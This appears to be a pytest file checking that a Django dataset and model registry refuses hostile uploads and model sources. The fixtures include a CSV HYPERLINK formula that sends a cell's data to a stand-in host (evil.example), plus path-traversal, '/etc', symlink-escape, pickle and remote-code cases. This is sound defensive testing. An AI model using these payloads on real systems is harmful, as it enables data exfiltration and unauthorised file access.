"""Broken and hostile uploads and model sources, through the site's forms and the API alike.

Each is refused with a message naming the file and line (or the field) and leaves nothing behind:
no dataset, version or model row, no stored file, no temporary file.
"""
from __future__ import annotations

import html
import json
import shutil
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from glassbox.accounts.services import grant_role
from glassbox.registry.models import Dataset, DatasetVersion, Model

pytestmark = pytest.mark.django_db
PAIRS_HEADER = b"sent_more,sent_less,stereo_antistereo,bias_type\n"

# (file name, dataset kind, content, what the message must say)
BAD_UPLOADS = {
    "malformed JSONL": ("broken.jsonl", "text", b'{"id": "a", "text": "fine"}\n{"id": "b", "text": "x"\n',
                        "broken.jsonl line 2: invalid JSON"),
    "missing field": ("nofield.jsonl", "text", b'{"id": "a", "body": "no text here"}\n',
                      "nofield.jsonl line 1: missing required field 'text'"),
    "binary file": ("photo.jsonl", "text", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10",
                    "photo.jsonl line 3: this looks like a binary file, not text"),
    "non-UTF-8 text": ("latin1.jsonl", "text", b'{"id": "a", "text": "fine"}\n{"id": "b", "text": "caf\xe9"}\n',
                       "latin1.jsonl line 2: byte 0xe9 is not valid UTF-8"),
    "malformed CSV": ("pairs.csv", "bias_pairs", PAIRS_HEADER + b"a,b,stereo,race-color\nc,d,stereo\n",
                      "pairs.csv line 3:"),
    "wrong extension": ("payload.exe", "text", b'{"id": "a", "text": "fine"}\n', "payload.exe"),
    "over the size limit": ("big.jsonl", "text", b'{"id": "a", "text": "' + b"x" * 400 + b'"}\n',
                            "big.jsonl: the file is larger than the upload limit of 256 bytes"),
}


@pytest.fixture
def contributor(db) -> User:
    user = User.objects.create_user("cora", password="pw")
    grant_role(user, "contributor")
    return user


@pytest.fixture
def site(client, contributor):
    client.force_login(contributor)
    return client


@pytest.fixture
def api(contributor) -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=contributor).key}")
    return client


def stored(settings) -> tuple:
    """Everything an upload or a registration could leave behind: rows, stored files, temporary files."""
    def files(folder) -> list[str]:
        folder = Path(folder)
        return sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file()) if folder.exists() else []

    return (Dataset.objects.count(), DatasetVersion.objects.count(), Model.objects.count(),
            files(settings.MEDIA_ROOT), files(settings.FILE_UPLOAD_TEMP_DIR))


def page_text(response) -> str:
    return html.unescape(response.content.decode())


@pytest.fixture
def existing_dataset(text_version):
    """A public text dataset with one good version, to which bad versions are offered."""
    return text_version.dataset


@pytest.mark.parametrize("case", list(BAD_UPLOADS), ids=list(BAD_UPLOADS))
def test_a_bad_upload_is_refused_everywhere_with_its_line_and_nothing_is_kept(
        case, site, api, settings, existing_dataset):
    name, kind, content, message = BAD_UPLOADS[case]
    settings.GLASSBOX_MAX_UPLOAD_BYTES = 256
    before = stored(settings)

    form = site.post("/datasets/new/", {"name": "Hostile", "kind": kind, "file": SimpleUploadedFile(name, content)})
    assert form.status_code == 200 and message in page_text(form)
    assert stored(settings) == before

    created = api.post("/api/datasets/", {"name": "Hostile", "kind": kind, "file": SimpleUploadedFile(name, content)},
                       format="multipart")
    assert created.status_code == 400 and message in created.json()["file"][0]
    assert stored(settings) == before

    if kind == existing_dataset.kind:
        version = api.post(f"/api/datasets/{existing_dataset.slug}/versions/",
                           {"file": SimpleUploadedFile(name, content)}, format="multipart")
        assert version.status_code == 400 and message in version.json()["file"][0]
        form = site.post(f"/datasets/{existing_dataset.slug}/upload/", {"file": SimpleUploadedFile(name, content)})
        assert form.status_code == 200 and message in page_text(form)
        assert stored(settings) == before


def test_an_upload_that_is_not_a_file_is_a_400_naming_the_field(api, settings):
    before = stored(settings)
    response = api.post("/api/datasets/", {"name": "Hostile", "kind": "text", "file": "just a string"},
                        format="multipart")
    assert response.status_code == 400 and "file" in response.json()
    response = api.post("/api/datasets/", {"name": "Hostile", "kind": "text", "file": ["a", "b"]}, format="json")
    assert response.status_code == 400 and "file" in response.json()
    assert stored(settings) == before


def test_csv_formula_cells_are_stored_as_data_and_shown_as_text(site, api, settings):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    content = PAIRS_HEADER + ('"' + formula.replace('"', '""') + '",+1+1,stereo,race-color\n'
                              '@SUM(1+1),-2+3,antistereo,gender\n').encode()
    response = api.post("/api/datasets/", {"name": "Formulas", "kind": "bias_pairs",
                                           "file": SimpleUploadedFile("formulas.csv", content)}, format="multipart")
    assert response.status_code == 201, response.content
    version = DatasetVersion.objects.get(dataset__slug="formulas")
    # Stored byte for byte: the cells are data, and the dataset's hash is the hash of what was sent.
    assert version.row_count == 2 and version.file.open("rb").read() == content
    import hashlib
    assert version.sha256 == hashlib.sha256(content).hexdigest()
    preview = page_text(site.get("/datasets/formulas/v1/"))
    assert formula in preview and "@SUM(1+1)" in preview


def _model_cases(model_dir: Path, tmp_path: Path, settings) -> dict:
    """Model sources that must be refused: (source, revision, the field blamed, what the message says)."""
    outside = tmp_path / "outside"
    shutil.copytree(model_dir, outside / "tiny")
    roots = tmp_path / "roots"
    roots.mkdir()
    settings.GLASSBOX_MODEL_ROOTS = [roots.resolve()]
    inside = Path(shutil.copytree(model_dir, roots / "tiny"))
    (roots / "sneaky").symlink_to(outside / "tiny", target_is_directory=True)
    linked_weights = roots / "linked-weights"
    linked_weights.mkdir()
    for entry in inside.iterdir():
        target = linked_weights / entry.name
        target.symlink_to(outside / "tiny" / entry.name) if entry.suffix == ".safetensors" \
            else target.write_bytes(entry.read_bytes())
    pickled = Path(shutil.copytree(model_dir, roots / "pickled"))
    for weights in pickled.glob("*.safetensors"):
        weights.unlink()
    (pickled / "pytorch_model.bin").write_bytes(b"\x80\x04\x95 not really a model")
    remote = Path(shutil.copytree(model_dir, roots / "remote"))
    config = json.loads((remote / "config.json").read_text())
    config["auto_map"] = {"AutoModelForCausalLM": "modeling_evil.EvilForCausalLM"}
    (remote / "config.json").write_text(json.dumps(config))
    return {
        "dot-dot traversal": (f"{roots}/tiny/../../outside/tiny", "", "source", "must not contain '..'"),
        "a path out of the roots": ("/etc", "", "source", "/etc is outside the folders models may be loaded from"),
        "a link out of the roots": (str(roots / "sneaky"), "", "source", "(it is a link to"),
        "a weight file linking out": (str(linked_weights), "", "source", "links to"),
        "a hub id on a branch": ("acme/tiny", "main", "revision", "a hub model must be pinned to a commit"),
        "a hub id on a tag": ("acme/tiny", "v1.0", "revision", "a hub model must be pinned to a commit"),
        "a hub id with traversal": ("acme/../tiny", "0" * 40, "source", "a local model path must be absolute"),
        "a hub id with dots": ("acme/tiny..evil", "0" * 40, "source", "the source must be a hub id"),
        "pickle-only weights": (str(pickled), "", "source", "holds only pickle weights"),
        "remote code": (str(remote), "", "source", "asks to run its own code (auto_map in config.json)"),
    }


MODEL_CASES = ["dot-dot traversal", "a path out of the roots", "a link out of the roots", "a weight file linking out",
               "a hub id on a branch", "a hub id on a tag", "a hub id with traversal", "a hub id with dots", "pickle-only weights",
               "remote code"]


@pytest.mark.parametrize("case", MODEL_CASES)
def test_a_hostile_model_source_is_refused_on_the_site_and_the_api(case, site, api, tiny_model_dir, tmp_path,
                                                                   settings):
    source, revision, field, message = _model_cases(tiny_model_dir, tmp_path, settings)[case]
    before = stored(settings)
    form = site.post("/models/register/", {"name": "Hostile", "source": source, "revision": revision})
    assert form.status_code == 200 and message in page_text(form)
    # The switches that would let such a model load are not the API's to give: they are ignored.
    response = api.post("/api/models/", {"name": "Hostile", "source": source, "revision": revision,
                                         "trust_remote_code": True, "allow_pickle_weights": True}, format="json")
    assert response.status_code == 400 and message in response.json()[field][0]
    assert stored(settings) == before
